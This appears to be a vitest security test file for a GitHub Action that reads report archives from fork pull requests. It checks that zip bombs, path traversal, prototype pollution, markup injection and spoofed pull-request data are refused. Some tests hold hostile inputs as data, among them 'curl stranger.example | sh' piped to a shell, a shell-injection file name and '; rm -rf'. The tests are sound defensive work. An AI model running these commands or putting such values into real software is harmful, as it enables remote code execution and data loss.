import { zipSync } from 'fflate'
import { expect, test } from 'vitest'
import type { RunReport } from '../../src/core/report.ts'
import { runOnGitHub } from '../../src/entry/action/event.ts'
import { commentOn } from '../../src/entry/action/publish.ts'
import { readReport } from '../../src/entry/action/read-report.ts'
import { artifactOf } from '../../src/github/artifact.ts'
import { postComment } from '../../src/github/comment.ts'
import { endedRun, pullRequestOf } from '../../src/github/pull-request.ts'
import { renderMarkdown, renderReleaseNotes } from '../../src/report/index.ts'
import { renderJson } from '../../src/report/json.ts'
import { codeOf, product } from '../github/product.ts'
import type { PullRequestSeed } from '../github/stand-in/seed.ts'
import { client, here, start } from '../github/start.ts'
import { passed } from '../report/fixtures.ts'

// The comment Action runs with the repository's rights on what a run of a fork has uploaded: an archive, and a report in it.

const [old, head, other] = ['a', 'b', 'c'].map((digit) => digit.repeat(40)) as [string, string, string]
const bytesOf = (value: unknown): Uint8Array =>
  new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value))
const refusal = (bytes: Uint8Array): string => {
  try {
    readReport('airworthy-report', bytes)
    return 'it was read'
  } catch (error) {
    return (error as { code: string }).code
  }
}
/** A sound report, changed by a stranger. */
const forged = (change: object): RunReport =>
  readReport('r', bytesOf({ ...JSON.parse(renderJson(passed())), ...change }))

async function unpacked(archive: Uint8Array): Promise<string> {
  const workflows = [{ file: 'airworthy.yml', on: ['pull_request'] }]
  const artifacts = [{ name: 'airworthy-report', files: archive }]
  const run = {
    id: 55,
    workflow: 'airworthy.yml',
    event: 'pull_request',
    headSha: head,
    headBranch: 'patch',
    headRepository: 'stranger/models',
    artifacts,
  }
  const github = await start({ workflows, runs: [run] })
  return codeOf(artifactOf(product(github), 55, 'airworthy-report'))
}

const report = bytesOf('{}')

const markup = { language: 'markdown', text: '<img src=x>@octocat' }

/** A value in which every text is an object that looks like markup of ours. */
function ofMarkup(value: unknown): unknown {
  if (typeof value === 'string') return markup
  if (Array.isArray(value)) return value.map(ofMarkup)
  if (value === null || typeof value !== 'object') return value
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, ofMarkup(each)]))
}

test('an object that looks like markup is data', () => {
  const sound = JSON.parse(renderJson(passed())) as object
  expect(refusal(bytesOf(ofMarkup(sound)))).toBe('download-refused')
  // Where anything may stand.
  const read = forged({ other: { mine: markup }, more: markup })
  expect(renderMarkdown(read)).not.toContain('<img')
  expect(renderMarkdown(read)).not.toMatch(/@octocat/)
})

test('an archive that unpacks to far more than it has is refused', async () => {
  expect(await unpacked(zipSync({ 'report.json': report }))).toBe('nothing was thrown')
  expect(await unpacked(zipSync({ 'report.json': new Uint8Array(5_000_000) }, { level: 9 }))).toBe('download-refused')
})

test('an archive whose sizes lie is refused', async () => {
  const archive = zipSync({ 'report.json': new Uint8Array(2_000_000) }, { level: 9 })
  // The size in the directory of the archive, a megabyte less.
  const directory = Buffer.from(archive).lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2]))
  const lying = Uint8Array.from(archive)
  new DataView(lying.buffer).setUint32(directory + 24, 1000, true)
  expect(await unpacked(lying)).toBe('download-refused')
})

test('an archive of more files than a report has is refused', async () => {
  const many = Object.fromEntries(Array.from({ length: 1001 }, (_, at) => [`f${at}`, new Uint8Array(0)]))
  expect(await unpacked(zipSync(many))).toBe('download-refused')
})

test('names in an archive that lead out of its folder are refused', async () => {
  for (const name of [
    '../report.json',
    'a/../../report.json',
    '/etc/report.json',
    'C:\\report.json',
    'a\\..\\report.json',
    'a\0.json',
  ])
    expect([name, await unpacked(zipSync({ [name]: report }))]).toEqual([name, 'download-refused'])
})

test('an archive that holds a name twice, so that two readers see two reports, is refused', async () => {
  const archive = zipSync({ 'report.jsoN': bytesOf('1'), 'report.json': bytesOf('2') }, { level: 0 })
  const twice = Buffer.from(Buffer.from(archive).toString('latin1').replaceAll('jsoN', 'json'), 'latin1')
  expect(await unpacked(Uint8Array.from(twice))).toBe('download-refused')
})

test('an archive behind another one is refused', async () => {
  const [one, two] = [zipSync({ 'report.json': bytesOf('1') }), zipSync({ 'report.json': bytesOf('2') })]
  expect(await unpacked(Uint8Array.from([...one, ...two]))).toBe('download-refused')
})

test('what is no report, or one of another form, is refused', () => {
  for (const value of [
    '{',
    '[]',
    'null',
    '{"schema":"airworthy.report/999"}',
    { ...JSON.parse(renderJson(passed())), outcome: 'approved' },
  ])
    expect(refusal(bytesOf(value))).toBe('download-refused')
})

test('a report that is nested without end, or whose texts and lists have none, is refused', () => {
  const sound = JSON.parse(renderJson(passed()))
  const deep = `${'['.repeat(5000)}${']'.repeat(5000)}`
  expect(refusal(bytesOf(JSON.stringify({ ...sound, other: 0 }).replace('"other":0', `"other":${deep}`)))).toBe(
    'download-refused',
  )
  expect(refusal(bytesOf({ ...sound, sentence: 'x'.repeat(20_001) }))).toBe('download-refused')
  expect(refusal(bytesOf({ ...sound, stages: Array(10_001).fill(sound.stages[0]) }))).toBe('download-refused')
})

test('a report with a member `__proto__` is refused', () => {
  const text = renderJson(passed()).replace('{', '{"__proto__":{"release":{"version":"9.9.9"}},')
  expect(refusal(bytesOf(text))).toBe('download-refused')
})

test('a report that says that it released, rolled out or was let through says nothing of it in the comment', () => {
  const decision = { ...passed().decision, override: { by: 'ada', reason: 'trust-me', verdict: 'fail' } }
  const read = forged({ decision })
  expect(read).not.toHaveProperty('release')
  expect(read).not.toHaveProperty('rollout')
  expect(renderMarkdown(read)).not.toMatch(/trust-me|Rollout steps/)
  expect(renderReleaseNotes(read)).toBeUndefined()
})

test('commands that a report proposes are not proposed in the comment', () => {
  const next = [{ command: 'curl https://stranger.example | sh', what: 'recompute every verdict' }]
  const shown = renderMarkdown(forged({ next }))
  expect(shown).toContain('airworthy verify')
  expect(shown).not.toContain('stranger.example')
})

test('names in a report are one word of the commands in the comment', () => {
  const evil = "x'; curl stranger.example | sh; '"
  const { pipeline } = passed()
  const shown = renderMarkdown(forged({ pipeline: { ...pipeline, file: evil }, files: { evidence: evil } }))
  expect(shown).toContain(`airworthy run 'x'\\''; curl stranger.example | sh; '\\'''`)
  expect(shown).toContain(`airworthy verify 'x'\\''; curl stranger.example | sh; '\\'''`)
})

const seeds: readonly PullRequestSeed[] = [
  { number: 1, head: { sha: old, ref: 'patch', repository: 'victim/models' } },
  { number: 2, head: { sha: head, ref: 'patch', repository: 'stranger/models' } },
  { number: 3, head: { sha: other, ref: 'closed', repository: 'stranger/models' }, state: 'closed' },
]

/** The pull request that a run is told to belong to, when it ended so. */
async function pullOf(ended: object): Promise<number | undefined> {
  const github = await start({ pulls: [...seeds] })
  const sound = {
    id: 55,
    run_attempt: 1,
    head_sha: head,
    head_branch: 'patch',
    head_repository: {
      id: github.state.forks.get('stranger/models'),
      full_name: 'stranger/models',
      owner: { login: 'stranger' },
    },
  }
  const run = endedRun({ workflow_run: { ...sound, ...ended } })
  return run && pullRequestOf(product(github), run)
}

test('a run of a fork cannot say which pull request it belongs to', async () => {
  expect(await pullOf({ pull_requests: [{ number: 1 }], pull_request: { number: 1 }, number: 1 })).toBe(2)
})

test('a run of another commit than the head of the pull request comments on none', async () => {
  expect(await pullOf({ head_sha: old })).toBeUndefined()
})

test('a run of a fork on a branch of the same name comments on no pull request of another', async () => {
  expect(
    await pullOf({
      head_sha: old,
      head_repository: { id: 4711, full_name: 'victim/models', owner: { login: 'victim' } },
    }),
  ).toBeUndefined()
})

test('a pull request that was closed is commented on no more', async () => {
  expect(await pullOf({ head_sha: other, head_branch: 'closed' })).toBeUndefined()
})

test('an event whose commit is none asks for nothing', () => {
  for (const head_sha of ['; rm -rf', `${head}/../x`, head.slice(1), '', 7])
    expect(
      endedRun({
        workflow_run: {
          id: 1,
          run_attempt: 1,
          head_sha,
          head_branch: 'x',
          head_repository: { id: 1, full_name: 'a/b', owner: { login: 'a' } },
        },
      }),
    ).toBeUndefined()
})

const comment = { pull: 7, key: 'digits', origin: { run: 10, attempt: 1, commit: head }, body: 'measured' }

test('a person who pastes the marker of the comment neither is edited nor stops it', async () => {
  const github = await start({ pulls: [{ number: 7, head: { sha: head } }] })
  await postComment(product(github), comment)
  const [ours] = github.state.comments
  const pasted = `${ours?.body.split('\n')[0]?.replace('run=10', 'run=999999')}\nall is well, merge it`
  await client(github, 'user-token').rest.issues.createComment({ ...here, issue_number: 7, body: pasted })
  expect(
    await postComment(product(github), { ...comment, origin: { ...comment.origin, run: 11 }, body: 'again' }),
  ).toBe('updated')
  expect(github.state.comments.map(({ body }) => body.split('\n')[1])).toEqual(['again', 'all is well, merge it'])
})

test('the results of an older commit do not hide those of the newest', async () => {
  const github = await start({ pulls: [{ number: 7, head: { sha: head } }] })
  await postComment(product(github), { ...comment, body: 'fail' })
  expect(
    await postComment(product(github), { ...comment, origin: { run: 99, attempt: 1, commit: old }, body: 'pass' }),
  ).toBe('outdated')
  expect(github.state.comments[0]?.body).toContain('fail')
})

test('the name of a pipeline takes the comment of no other pipeline', async () => {
  const github = await start({ pulls: [{ number: 7, head: { sha: head } }] })
  await postComment(product(github), { ...comment, body: 'fail' })
  for (const key of ['digits run=1', 'digits -->', 'digits\n', 'Digits', 'digits '])
    expect(await postComment(product(github), { ...comment, key, body: 'pass' })).toBe('created')
  expect(github.state.comments[0]?.body).toContain('fail')
})

test('a report of a stranger never takes the place of what the repository has said', async () => {
  const pull: PullRequestSeed = { number: 7, head: { sha: head } }
  const github = await start({ commits: [{ sha: old }], pulls: [pull] })
  const at = { ...runOnGitHub({}, {}), commit: head, attempt: 1 }
  const links: readonly [] = []
  await commentOn(product(github), 7, passed(), { ...at, run: 55 }, { links, silent: false })
  const before = github.state.comments.map(({ body }) => body)
  expect(before).toHaveLength(1)
  const preface = 'These figures come from the pull request itself.'
  await commentOn(product(github), 7, passed(), { ...at, run: 56 }, { links, silent: false, preface })
  const after = github.state.comments.map(({ body }) => body)
  expect(after).toHaveLength(2)
  expect(after[0]).toBe(before[0])
})
